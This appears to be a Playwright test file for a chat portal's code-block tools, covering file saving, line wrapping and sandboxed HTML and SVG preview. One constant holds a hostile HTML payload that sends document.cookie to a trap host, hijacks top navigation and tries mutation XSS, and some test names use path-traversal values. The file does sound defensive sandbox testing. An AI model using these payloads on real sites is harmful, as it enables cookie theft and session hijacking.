"""What is done with a block of code: wrapped, saved, and shown beside the conversation where nothing of it can act."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Portal
from tests.browser.pages.test_every_page import axe
from tests.browser.trap import Trap

Open = Callable[..., Page]
PAGE = "<style>h1 { color: rgb(1, 2, 3) }</style><h1>Tides</h1><p style='color: rgb(4, 5, 6)'>High water</p>"
DOT = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
HOSTILE = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=TRAP/refresh"><base href="TRAP/base/">
<link rel="preconnect" href="TRAP"><link rel="dns-prefetch" href="TRAP"><link rel="prefetch" href="TRAP/prefetch">
<link rel="stylesheet" href="TRAP/style.css"><link rel="icon" href="TRAP/icon"><link rel="modulepreload" href="TRAP/module.js">
<style>@import url(TRAP/import.css); @font-face { font-family: x; src: url(TRAP/font) }
body { background: url(TRAP/background); font-family: x } h1::after { content: url(TRAP/content) }</style>
<script>fetch("TRAP/fetch?" + document.cookie); top.location = "TRAP/top"; parent.postMessage("obeyed", "*"); alert(document.cookie)</script>
<script src="TRAP/script.js"></script></head>
<body background="TRAP/body" onload="fetch('TRAP/load'); top.location='TRAP/onload'"><h1>Seen</h1>
<img src="TRAP/image" srcset="TRAP/srcset 2x" onerror="alert(1)"><picture><source srcset="TRAP/source"><img src="TRAP/picture"></picture>
<video src="TRAP/video" poster="TRAP/poster" autoplay></video><audio src="TRAP/audio" autoplay></audio>
<iframe src="TRAP/iframe"></iframe><iframe srcdoc="<script>top.location='TRAP/srcdoc'</script>"></iframe>
<object data="TRAP/object"></object><embed src="TRAP/embed"><input type="image" src="TRAP/input">
<template shadowrootmode="open"><link rel="preconnect" href="TRAP"><img src="TRAP/shadow"></template>
<svg><image href="TRAP/svg"/><use href="TRAP/use#x"/><foreignObject><img src="TRAP/foreign"></foreignObject><a xlink:href="TRAP/svglink"><text y="20">svg link</text></a>
<animate attributeName="href" to="TRAP/animated" /></svg>
<noscript><img src="TRAP/noscript"><link rel="preconnect" href="TRAP"></noscript>
<a id="top" href="TRAP/link" target="_top">to the top</a> <a id="blank" href="TRAP/popup" target="_blank" ping="TRAP/ping">another window</a>
<a id="here" href="TRAP/here">here</a> <a id="code" href="javascript:top.location='TRAP/javascript'">code</a> <a id="site" href="/sign-out/">site</a>
<form action="TRAP/form" method="post"><button id="send">send</button></form>
<form target="_top" action="/sign-out/" method="post"><button id="out" formaction="TRAP/formaction">out</button></form>
<math><mtext><table><mglyph><style><!--</style><link rel="preconnect" href="TRAP"><img src="TRAP/math" onerror="alert(1)">-->
</style></mglyph></table></mtext></math>
</body></html>"""
WATCH = """
  window.alert = () => console.error("obeyed");
  if (window === top) addEventListener("message", () => console.error("obeyed: a message"));
"""


def open_answer(portal: Portal, open_page: Open, text: str, **options: object) -> Page:
    return open_page(f"/sessions/{portal.new_answer(text)}/", **options)


@pytest.mark.parametrize(
    ("block", "name"),
    [
        ("```python\nx = 1\n```", "message-2.py"),
        ("```C#\nx = 1\n```", "message-2.cs"),
        ("```dockerfile\nFROM scratch\n```", "Dockerfile"),
        ("```py app/main.py\nx = 1\n```", "main.py"),
        ('```js title="../../etc/x.mjs"\nx = 1\n```', "x.mjs"),
        ("```constructor\nx = 1\n```", "message-2.txt"),
        ("```../..\nx = 1\n```", "message-2.txt"),
        ("```\nx = 1\n```", "message-2.txt"),
    ],
)
def test_code_is_saved_under_a_name_by_its_language(portal: Portal, open_page: Open, block: str, name: str) -> None:
    page = open_answer(portal, open_page, block)
    with page.expect_download() as started:
        page.get_by_role("button", name="Save this code as a file").click()
    assert started.value.suggested_filename == name
    assert Path(started.value.path()).read_text(encoding="utf-8") == block.split("\n", 1)[1].removesuffix("```")


def test_long_lines_are_wrapped_and_unwrapped(portal: Portal, open_page: Open) -> None:
    page = open_answer(portal, open_page, f"```py\n{'x = 1; ' * 60}\n```")
    code = page.locator("figure pre")
    is_wide = "(code) => code.scrollWidth > code.clientWidth"
    assert code.evaluate(is_wide)
    wrap = page.get_by_role("button", name="Wrap the lines of this code")
    wrap.press("Enter")
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert not code.evaluate(is_wide)
    wrap.press("Enter")
    assert code.evaluate(is_wide)


@pytest.mark.parametrize("width", [1440, 390])
def test_html_is_shown_beside_the_conversation_and_escape_closes_it(
    portal: Portal, open_page: Open, width: int
) -> None:
    text = f"```html\n{PAGE}<img src='{DOT}'>\n```"
    page = open_answer(portal, open_page, text, viewport={"width": width, "height": 844})
    opener = page.get_by_role("button", name="Preview", exact=True)
    opener.press("Enter")
    pane = page.get_by_role("complementary", name="Preview of HTML")
    expect(pane.get_by_text("Scripts, forms and links are disabled")).to_be_visible()
    expect(pane.get_by_role("heading")).to_be_focused()
    shown = pane.frame_locator("iframe").frame_locator("iframe")
    expect(shown.get_by_role("heading", name="Tides")).to_have_css("color", "rgb(1, 2, 3)")
    expect(shown.get_by_text("High water")).to_have_css("color", "rgb(4, 5, 6)")
    expect(shown.locator("img")).to_have_js_property("naturalWidth", 1)
    assert pane.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    assert pane.frame_locator("iframe").locator("iframe").get_attribute("sandbox") == ""
    assert axe(page) == []
    page.keyboard.press("Escape")
    expect(pane).to_have_count(0)
    expect(opener).to_be_focused()
    opener.press("Enter")
    pane.get_by_role("button", name="Close the preview").click()
    expect(opener).to_be_focused()


def test_svg_is_shown_in_a_shared_session(portal: Portal, open_page: Open) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle cx="4" cy="4" r="4" fill="teal"/></svg>'
    session_id = portal.new_answer(f"```svg\n{svg}\n```")
    made = portal.call("POST", f"/api/sessions/{session_id}/shares", {"audience": "site"})
    page = open_page(made["path"])
    page.get_by_role("button", name="Preview", exact=True).click()
    expect(page.frame_locator(".preview iframe").frame_locator("iframe").locator("circle")).to_be_visible()


def test_what_is_shown_reaches_nothing_whatever_it_tries(portal: Portal, trap: Trap) -> None:
    context = portal.context()
    context.add_init_script(WATCH)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("dialog", lambda dialog: said.append(f"obeyed: {dialog.message}"))
    address = (
        f"/sessions/{portal.new_answer('```html' + chr(10) + HOSTILE.replace('TRAP', trap.url) + chr(10) + '```')}/"
    )
    page.goto(address)
    context.on("page", lambda opened: said.append(f"obeyed: {opened.url}"))
    page.get_by_role("button", name="Preview", exact=True).click()
    shown = page.frame_locator(".preview iframe").frame_locator("iframe")
    expect(shown.get_by_role("heading", name="Seen")).to_be_visible()
    for name in ("top", "blank", "here", "code", "site", "send", "out"):
        shown.locator(f"#{name}").click()
    page.wait_for_timeout(1_000)  # for what comes later by itself
    expect(shown.get_by_role("heading", name="Seen")).to_be_visible()
    assert page.url.endswith(address)
    assert trap.caught == []
    assert not [words for words in said if "obeyed" in words]
    assert portal.client.get("/").url.path == "/"  # still signed in
    context.close()
